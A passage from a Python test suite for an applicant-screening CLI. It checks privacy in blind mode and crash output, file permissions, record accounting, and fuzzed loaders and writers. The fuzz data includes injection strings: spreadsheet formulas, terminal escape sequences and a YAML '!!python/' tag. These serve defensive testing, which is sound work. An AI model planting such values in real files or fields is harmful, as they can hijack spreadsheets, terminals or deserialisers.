    assert cli("shortlist", EVERYTHING, "--rubric", RUBRIC, "--top", "3", "--blind", "-o", out).code == 0
    text = out.read_text(encoding="utf-8-sig") + (tmp_path / "short-left-out.csv").read_text(encoding="utf-8-sig")
    for secret in _secrets():
        assert secret not in text, secret



def test_rejected_file_under_blind_holds_no_raw_text(tmp_path: Path) -> None:
    rejected = tmp_path / "rejected.csv"
    assert cli("score", EVERYTHING, "--rubric", RUBRIC, "--blind", "--rejected", rejected).code == 0
    kept = read_csv(rejected)
    assert [int(r["line"]) for r in kept] == [line for line, _ in fx.REJECTED]
    assert "tm@example.com" not in rejected.read_text(encoding="utf-8-sig")


def _crash_with_applicant_data(monkeypatch: pytest.MonkeyPatch) -> None:
    import screener.core.scoring

    def boom(frame: Any, rubric: Any, **_: Any) -> Any:
        secret = frame.iloc[0].to_dict()  # a local holding applicant data, as a real bug would have
        raise RuntimeError(f"internal bug while scoring {secret}")

    monkeypatch.setattr(screener.core.scoring, "score", boom)


def test_a_crash_prints_no_applicant_data(monkeypatch: pytest.MonkeyPatch) -> None:
    _crash_with_applicant_data(monkeypatch)
    run = cli("score", FORMULAS, "--rubric", MINIMAL)
    assert run.code == 70
    assert "unexpected problem (RuntimeError)" in run.stderr
    assert "example.com" not in run.stderr and "HYPERLINK" not in run.stderr
    assert "Traceback" not in run.stderr and "locals" not in run.stderr


def test_debug_traceback_has_no_locals(monkeypatch: pytest.MonkeyPatch) -> None:
    _crash_with_applicant_data(monkeypatch)
    run = cli("--debug", "score", FORMULAS, "--rubric", MINIMAL)
    assert run.code == 70
    assert "Traceback (most recent call last)" in run.stderr
    assert 'raise RuntimeError(f"internal bug while scoring {secret}")' in run.stderr  # source, not values
    assert "╭" not in run.stderr and "locals" not in run.stderr



def test_debug_traceback_holds_no_applicant_data(monkeypatch: pytest.MonkeyPatch) -> None:
    _crash_with_applicant_data(monkeypatch)
    run = cli("--debug", "score", FORMULAS, "--rubric", MINIMAL)
    assert "Traceback (most recent call last)" in run.stderr
    assert "example.com" not in run.stderr



@pytest.mark.parametrize("debug", [False, True])
def test_a_crash_in_a_real_process_prints_no_applicant_data(debug: bool) -> None:
    args = ["--debug"] if debug else []
    proc = start_harness(*args, "score", FORMULAS, "--rubric", MINIMAL,
                         faults=("--crash-after", "screener.data.load:load_export"))
    _out, err = proc.communicate(timeout=120)
    done = subprocess.CompletedProcess(proc.args, proc.returncode, _out, err)
    assert done.returncode == 70
    assert "RuntimeError" in done.stderr  # the injected crash, not another bug
    assert ("Traceback (most recent call last)" in done.stderr) == debug
    assert "example.com" not in done.stderr and "locals" not in done.stderr and "╭" not in done.stderr


# --- the nightly run: store, lock, log and outputs ----------------------------------------------


def _nightly_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SCREENER_RUBRIC", raising=False)
    assert cli("init", "--rubric", RUBRIC, "--exports", "exports/*.csv").code == 0
    config = tmp_path / "screener.toml"
    text = config.read_text(encoding="utf-8")
    text = re.sub(r'(?m)^output = "out"$', 'output = "private/out"', text)
    text = re.sub(r'(?m)^store = "screener.db"$', 'store = "state/db/screener.db"', text)
    config.write_text(text, encoding="utf-8")
    (tmp_path / "exports").mkdir(exist_ok=True)
    shutil.copy(EVERYTHING, tmp_path / "exports" / "everything.csv")
    with umask(0o022):
        run = cli("run")
    assert run.code == 3, run.stderr  # done, with unreadable rows
    return tmp_path


def test_nightly_store_lock_log_and_outputs_are_0600_and_the_log_holds_ids_only(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = _nightly_project(tmp_path, monkeypatch)
    with umask(0o022):
        assert cli("shortlist").code == 0  # the left-out file, from the store
    files = [project / "state/db/screener.db", project / "state/db/screener.db.lock",
             project / "private/out/screener.log", project / "private/out/shortlist.csv",
             project / "private/out/shortlist-left-out.csv", project / "private/out/unreadable.csv"]
    files += [p for p in (project / "state/db").iterdir() if p.name.endswith(("-wal", "-shm"))]
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in ("state/db", "private/out"):
        assert stat.S_IMODE((project / folder).stat().st_mode) == 0o700, folder
    log = (project / "private/out/screener.log").read_text(encoding="utf-8")
    assert "007" in log and "12" in log  # ids
    for secret in _secrets() + ["Ana NA", "Nils Null", "Eve"]:
        assert secret not in log, secret
    assert_no_raw_controls(log)
    # The store keeps what was typed: NA, Null, None, True, nan stay strings, 007 keeps its zeros.
    import sqlite3

    with contextlib.closing(sqlite3.connect(project / "state/db/screener.db")) as db:
        stored = {key: json.loads(data) for key, data in db.execute("SELECT entry_id, data FROM entries")}
    assert {stored[k]["Name_Last"] for k in ("6", "7", "8", "9", "10")} == {"NA", "Null", "None", "True", "nan"}
    assert stored["007"]["Phone"] == "+1 (555) 010-0199"
    assert stored["4"]["Name_First"] == "Eve\x1b[2J\x1b]0;title\x07"



def test_nightly_creates_every_missing_folder_0700(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project = _nightly_project(tmp_path, monkeypatch)
    for folder in ("state", "private"):
        assert stat.S_IMODE((project / folder).stat().st_mode) == 0o700, folder


# ------------------------------------------------------------------------------------------------
# 7. No silent loss: every record is scored or rejected with its line and reason


def test_every_record_of_the_trap_file_is_scored_or_rejected(tmp_path: Path) -> None:
    out, rejected = tmp_path / "all.json", tmp_path / "rejected.csv"
    run = cli("score", EVERYTHING, "--rubric", RUBRIC, "-o", out, "--rejected", rejected)
    assert run.code == 0, run.stderr
    scored = json.loads(out.read_text(encoding="utf-8"))
    unread = read_csv(rejected)
    assert len(scored) + len(unread) == fx.N_RECORDS
    expected_ids = {rid for rid, _ in fx.ROWS + fx.AFTER_BAD}
    assert {r["id"] for r in scored} == expected_ids
    assert len(fx.REJECTED) == 3
    for (line, reason), row in zip(fx.REJECTED, unread, strict=True):
        assert int(row["line"]) == line
        assert row["reason"].startswith(reason), row["reason"]
        assert row["raw"]
        assert f"line {line}: {reason}" in run.stderr
    assert all(0 <= r["score"] <= 100 for r in scored)
    # Records after the broken quote were read, not swallowed.
    assert {"17", "18"} <= {r["id"] for r in scored}
    # The shortlist accounts for everyone too.
    short = tmp_path / "short.csv"
    assert cli("shortlist", EVERYTHING, "--rubric", RUBRIC, "--top", "5", "-o", short).code == 0
    left = read_csv(tmp_path / "short-left-out.csv")
    assert len(read_csv(short)) + len(left) == fx.N_RECORDS
    assert sum(r["left_out_because"].startswith("could not be read") for r in left) == 3


# ------------------------------------------------------------------------------------------------
# Property: any text in any cell, through load -> score -> every writer -> read back

NAUGHTY = ["None", "FALSE", "NA", "nan", "null", "007", "=1+1", "+1 (555) 010-0199", "-", "@", " ", "\x00",
           "\x1b[2J", "\u202e", "'=1+1", "[/red]", "\r", "\n", "\u2028", "_x0041_"]
cell_text = st.one_of(st.text(max_size=40), st.sampled_from(NAUGHTY))


def _expected(export: Path) -> Any:
    from screener.app.pipeline import screen

    return screen(export, MINIMAL).table


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=st.lists(st.lists(cell_text, min_size=9, max_size=9), min_size=1, max_size=4))
def test_any_text_survives_every_writer_and_reads_back(rows: list[list[str]]) -> None:
    from screener.data.write import records, xlsx_column_order

    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        export = folder / "export.csv"
        with export.open("w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow(fx.MINIMAL_HEADER)
            writer.writerows(rows)
        table = _expected(export)
        # One applicant per entry id ('Ref'): a later row with the same id is a newer version.
        by_id: dict[str, list[str]] = {}
        kept = []
        for row in rows:
            if any(row):
                if row[0].strip():
                    by_id.pop(row[0].strip(), None)
                    by_id[row[0].strip()] = row
                else:
                    kept.append(row)
        kept += list(by_id.values())
        assert len(table) == len(kept)
        assert sorted(table["name"]) == sorted(row[1].strip() for row in kept)
        assert sorted(table["email"]) == sorted(row[2].strip() for row in kept)
        assert ((table["score"] >= 0) & (table["score"] <= 100)).all()
        numeric = {c for c in table.columns if NUMERIC.match(c)}
        wanted = json.loads(json.dumps(records(table)))
        for fmt in ("csv", "json", "jsonl", "xlsx"):
            out = folder / f"out.{fmt}"
            run = cli("score", export, "--rubric", MINIMAL, "--format", fmt, "-o", out)
            assert run.code == 0, (fmt, run.stderr)
            if fmt == "json":
                assert json.loads(out.read_text(encoding="utf-8")) == wanted
            elif fmt == "jsonl":
                lines = out.read_text(encoding="utf-8").split("\n")
                assert lines[-1] == "" and [json.loads(x) for x in lines[:-1]] == wanted
            else:
                if fmt == "csv":
                    back = read_csv(out)
                    header = list(back[0]) if back else list(table.columns)
                    got = [[r[c] for c in header] for r in back]
                    assert header == list(table.columns)
                else:
                    header, got, _ = read_xlsx(out)
                    assert xlsx_unmarked(out) == []
                    # XLSX puts identity, score and bucket first (write.XLSX_LEAD)
                    assert header == [table.columns[i] for i in xlsx_column_order(list(table.columns))]
                assert len(got) == len(table)
                for values, (_, expected_row) in zip(got, table.iterrows(), strict=True):
                    for column, value in zip(header, values, strict=True):
                        expected = expected_row[column]
                        if column in numeric:
                            assert float(value) == pytest.approx(float(expected)), (fmt, column)
                            if column == "score":
                                assert 0 <= float(value) <= 100
                        else:  # exact, but the controls a spreadsheet cannot hold as their pictures (␀)
                            text = str(expected)
                            wanted_text = neutralize(csv_safe(text)) if fmt == "csv" else xlsx_safe(text)
                            assert value == wanted_text, (fmt, column, value, expected)


# ------------------------------------------------------------------------------------------------
# Fuzz: bytes shaped like JSON, JSON Lines and XLSX through the loader and then every writer


def _json_bytes() -> st.SearchStrategy[bytes]:
    scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), cell_text)
    values = st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                           st.dictionaries(cell_text, inner, max_size=3)),
                          max_leaves=12)
    documents = st.one_of(st.lists(st.dictionaries(cell_text, values, max_size=4), max_size=4), values)
    raw = st.tuples(documents, st.booleans()).map(lambda t: json.dumps(t[0], ensure_ascii=t[1]).encode())
    deep = st.integers(min_value=1, max_value=3000).map(lambda n: b"[" * n + b"]" * n)
    surrogate = st.sampled_from([b'[{"a": "\\ud800"}]', b'{"a": "\\udfff", "b": "\\ud83d\\ude00"}\n{"c": 1}\n'])
    return st.one_of(raw, deep, surrogate, raw.flatmap(lambda b: st.integers(0, len(b)).map(lambda k: b[:k])))


def _small_xlsx() -> bytes:
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet()
    for r, row in enumerate([fx.MINIMAL_HEADER, fx._ROW_A, fx._ROW_B]):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    book.close()
    return buffer.getvalue()


XLSX_SEED = _small_xlsx()


def _mutated_xlsx() -> st.SearchStrategy[bytes]:
    def mutate(edits: list[tuple[int, int]]) -> bytes:
        data = bytearray(XLSX_SEED)
        for position, byte in edits:
            data[position % len(data)] = byte
        return bytes(data)

    flips = st.lists(st.tuples(st.integers(0, len(XLSX_SEED) - 1), st.integers(0, 255)), min_size=1, max_size=8)
    cuts = st.integers(0, len(XLSX_SEED)).map(lambda k: XLSX_SEED[:k])
    return st.one_of(flips.map(mutate), cuts)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.one_of(_json_bytes(), _mutated_xlsx()), suffix=st.sampled_from([".json", ".jsonl", ".xlsx", ".csv"]))
def test_fuzzed_exports_load_and_write_or_fail_cleanly(data: bytes, suffix: str) -> None:
    from screener.app.views import blind_table
    from screener.core.rubric import load_rubric
    from screener.core.scoring import score
    from screener.data.load import load_export
    from screener.data.write import FORMATS, render

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / f"export{suffix}"
        path.write_bytes(data)
        try:
            frame, report = load_export(path)
        except InputError as err:
            assert str(err) and "\n" not in str(err)
            return
    result = score(frame, load_rubric(MINIMAL))
    assert ((result.table["score"] >= 0) & (result.table["score"] <= 100)).all()
    for table in (result.table, blind_table(result.table)):
        for fmt in FORMATS:
            assert isinstance(render(table, fmt), bytes)


@settings(max_examples=100, deadline=None)
@given(data=st.one_of(st.binary(max_size=200), st.text(max_size=200).map(str.encode),
                      st.lists(st.sampled_from([b"a:", b" ", b"\n", b"- ", b"&x ", b"*x", b"!!python/", b"[", b"{",
                                                b"criteria:", b"rubric: r", b"\t", b'"', b"\xff"]),
                               max_size=40).map(b"".join)))
def test_fuzzed_rubrics_fail_only_with_rubric_errors(data: bytes) -> None:
    from screener.core.rubric import load_rubric

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "r.yaml"
        path.write_bytes(data)
        try:
            load_rubric(path)
        except RubricError as err:
            assert str(err)
